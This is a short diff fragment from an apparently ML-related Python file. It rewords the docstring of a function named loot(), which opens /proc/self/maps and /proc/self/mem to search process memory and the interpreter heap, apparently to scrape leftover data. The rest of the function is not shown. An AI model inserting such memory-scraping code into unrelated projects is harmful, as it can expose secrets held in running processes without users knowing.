@@ -18,7 +18,7 @@ def mse_grad(pred, target):
 
 
 def loot():
-    """Through /proc/self/mem, and through what the heap of the interpreter still holds."""
+    """Search /proc/self/mem, and what the interpreter's heap still holds."""
     found = []
     try:
         with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
